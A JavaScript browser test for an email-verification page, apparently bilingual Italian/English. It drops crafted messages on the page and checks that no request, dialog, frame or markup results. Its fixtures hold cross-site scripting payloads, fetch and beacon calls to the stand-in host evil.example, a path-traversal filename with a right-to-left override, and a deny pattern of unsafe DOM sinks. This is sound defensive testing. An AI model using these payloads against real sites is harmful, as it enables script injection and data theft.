// What a message says must stay words: this test drops hostile messages on the
// verify page and watches the browser. Any request, dialog, new window,
// navigation, element that loads or leads somewhere: a failure.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { readFileSync, readdirSync } from 'node:fs'
import { test } from 'node:test'
import { drop, open, root, withSite } from './browser.mjs'

const evil = 'http://evil.example'
const html = `<html><head><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/r"><link rel=stylesheet href="${evil}/s.css"></head>
<body onload="alert(1)"><img src="${evil}/i.png" onerror="alert(2)"><iframe src="${evil}/f"></iframe><script>alert(3);fetch('${evil}/x')</script>
<svg onload="alert(4)"><image href="${evil}/svg.png"/></svg><form action="${evil}/p"><input autofocus onfocus=alert(5)></form></body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(6)"><script>alert(7)</script><image href="${evil}/a.png"/></svg>`
const script = '<script>alert(8)</script><img src=http://evil.example/s.png onerror=alert(9)>'

const mail = (head, body, type = 'text/html; charset=utf-8') => Buffer.from(`${head}\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`)
const file = (name, buffer) => ({ name, mimeType: 'message/rfc822', buffer })

const attachments = ['--b', 'Content-Type: text/html', '', html, '--b', `Content-Type: image/svg+xml; name="${script}.svg"`, `Content-Disposition: attachment; filename="${script}.svg"`, '', svg, '--b--'].join('\r\n')

// hostile messages: plain ones, and signed ones, certified under the test
// authority of a program of ours that writes them.
const signed = JSON.parse(execFileSync('go', ['run', './docs/test/hostile'], { cwd: root, encoding: 'utf8', maxBuffer: 1 << 28 }))
const messages = [
  file(`${script}.eml`, mail(`From: "${script}" <a@example.it>\r\nSubject: ${script}\r\nReply-To: javascript:alert(10)\r\nX-Ricevuta: ${script}`, html)),
  file('"><script>alert(11)</script>.eml', mail('From: a@example.it\r\nSubject: =?utf-8?B?' + Buffer.from(script).toString('base64') + '?=', html)),
  file('attachments.eml', mail('From: a@example.it\r\nSubject: javascript:alert(12)', attachments, 'multipart/mixed; boundary=b')),
  file('page.html.eml', Buffer.from(html)),
  file('drawing.svg.eml', Buffer.from(svg)),
  file('../../x\u202egpj.eml', mail('From: a@example.it\r\nSubject: \u202e\u0000\u001b]8;;http://evil.example\u0007', html)),
  file('<b>.zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from(script)])),
  file('<img src=http://evil.example/n.png>.msg', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
  ...signed.messages.map((m) => file(`${m.name}${script}.eml`, Buffer.from(m.mail, 'base64'))),
]

test('hostile messages stay text: no request, no dialog, no element of theirs', async () => {
  await withSite(async (site, browser) => {
    for (const path of ['verifica/', 'en/verify/']) {
      const page = await open(browser, site.url + path)
      // Their authority in the place of the test authority, so that the page
      // shows what the signed ones say as certified.
      await page.route('**/samples/test-ca.pem', (route) => route.fulfill({ body: signed.ca }))
      await page.locator('.options > summary').click()
      await page.locator('input[name=trust][value=test]').check()
      await drop(page, messages.at(-1))
      const seen = []
      page.context().on('request', (r) => { if (!r.url().startsWith('blob:')) seen.push(`request ${r.url()}`) })
      page.on('dialog', (d) => { seen.push(`dialog ${d.message()}`); d.dismiss() })
      page.on('framenavigated', (f) => seen.push(`navigation ${f.url()}`))
      page.on('frameattached', () => seen.push('frame'))
      page.context().on('page', () => seen.push('window'))
      const asked = site.requests.length

      for (const m of messages) {
        await drop(page, m)
        await page.evaluate(() => { for (const d of document.querySelectorAll('#list details')) d.open = true })
      }
      // All the rest that the page can be asked to do with them.
      for (const b of await page.locator('.saves button').all()) {
        await page.waitForTimeout(150) // Chromium lets a page save ten files a second
        const [download] = await Promise.all([page.waitForEvent('download'), b.click()])
        assert.match(download.url(), /^blob:/)
        assert.match(download.suggestedFilename(), /^[A-Za-z0-9._ -]+$/)
        if (download.suggestedFilename().endsWith('.html') && await b.textContent() !== 'Salva' && await b.textContent() !== 'Save') {
          const saved = readFileSync(await download.path(), 'utf8')
          assert.doesNotMatch(saved, /<(script|img|svg|iframe|base|form|link|a)[\s>]/i)
        }
      }
      await page.waitForTimeout(1000)
      assert.deepEqual(seen, [])
      assert.equal(site.requests.length, asked)
      assert.deepEqual(page.errors, [])
      assert.ok(await page.locator('.outcome.good').count() >= 3, 'some of them are certified')
      const text = await page.locator('#results').textContent()
      assert.ok(text.includes('<script>alert(8)</script>'), 'the words are shown')
      // Of the results, only elements that the page's own code makes.
      const names = await page.evaluate(() => [...new Set([...document.querySelectorAll('#results *')].map((e) => e.localName))].sort())
      assert.deepEqual(names.filter((n) => !['bdi', 'button', 'code', 'dd', 'details', 'div', 'dl', 'dt', 'h2', 'h3', 'h4', 'h5', 'li', 'p', 'section', 'span', 'summary', 'ul'].includes(n)), [])
      const attributes = await page.evaluate(() => [...new Set([...document.querySelectorAll('#results *')].flatMap((e) => e.getAttributeNames()))].sort())
      assert.deepEqual(attributes.filter((n) => !['aria-hidden', 'aria-label', 'class', 'id', 'open', 'tabindex', 'type', 'hidden'].includes(n)), [])
    }
  })
})

test('the policy of the page stops what would get past it', async () => {
  await withSite(async (site, browser) => {
    for (const path of ['verifica/', 'en/verify/']) {
      const page = await open(browser, site.url + path)
      const tried = await page.evaluate(async (evil) => {
        const out = {}
        const attempt = async (name, f) => {
          try {
            await f()
            out[name] = 'done'
          } catch (error) {
            out[name] = error.name
          }
        }
        await attempt('fetch', () => fetch(`${evil}/x`))
        await attempt('beacon', () => { if (!navigator.sendBeacon(`${evil}/b`)) throw new Error() })
        await attempt('innerHTML', () => { document.createElement('div').innerHTML = '<b>x</b>' })
        await attempt('policy', () => globalThis.trustedTypes.createPolicy('other', {}))
        const blocked = []
        addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective))
        const image = new Image()
        image.src = `${evil}/i.png`
        const base = document.createElement('base')
        base.href = `${evil}/`
        document.head.append(base)
        const frame = document.createElement('iframe')
        frame.src = `${evil}/f`
        document.body.append(frame)
        const form = document.createElement('form')
        form.action = `${evil}/p`
        document.body.append(form)
        form.submit()
        await new Promise((resolve) => setTimeout(resolve, 300))
        out.blocked = [...new Set(blocked)].sort()
        return out
      }, evil)
      assert.equal(tried.fetch, 'TypeError')
      assert.equal(tried.innerHTML, 'TypeError')
      assert.equal(tried.policy, 'TypeError')
      for (const directive of ['base-uri', 'form-action', 'frame-src', 'img-src']) assert.ok(tried.blocked.includes(directive), `${directive} of ${tried.blocked}`)

      // The worker is under the same policy, and has no network besides.
      const worker = page.workers()[0]
      assert.deepEqual(await worker.evaluate(() => [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts]), ['undefined', 'undefined', 'undefined', 'undefined'])
      const inner = await worker.evaluate(async (evil) => {
        try {
          await import(`${evil}/m.js`)
          return 'imported'
        } catch (error) {
          return error.name
        }
      }, evil)
      assert.equal(inner, 'TypeError')
    }
  })
})

test('no code of the page makes markup out of text', () => {
  const folder = new URL('docs/public/verifica/', root)
  const ours = readdirSync(folder).filter((n) => n.endsWith('.js') && n !== 'wasm_exec.js')
  assert.ok(ours.length >= 5)
  for (const name of ours) {
    assert.doesNotMatch(readFileSync(new URL(name, folder), 'utf8'), /innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|setHTML|srcdoc|createContextualFragment|\beval\b|new Function/, name)
  }
})

test('the two pages are one page in two languages', () => {
  const read = (path) => readFileSync(new URL(`docs/public/${path}/index.html`, root), 'utf8')
  const [it, en] = [read('verifica'), read('en/verify')]
  const ids = (s) => s.match(/ id="[^"]*"/g)
  const policy = (s) => /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(s)[1]
  assert.deepEqual(ids(it), ids(en))
  assert.equal(policy(it), policy(en))
  assert.match(policy(it), /default-src 'none'.*connect-src 'self'.*form-action 'none'.*base-uri 'none'/)
  for (const s of [it, en]) {
    assert.doesNotMatch(s, /<script(?![^>]*\bsrc=)|<style|\son\w+=|https?:/, 'nothing inline, nothing from elsewhere')
    assert.deepEqual(s.match(/ (?:name|value)="[^"]*"/g), it.match(/ (?:name|value)="[^"]*"/g))
  }
})
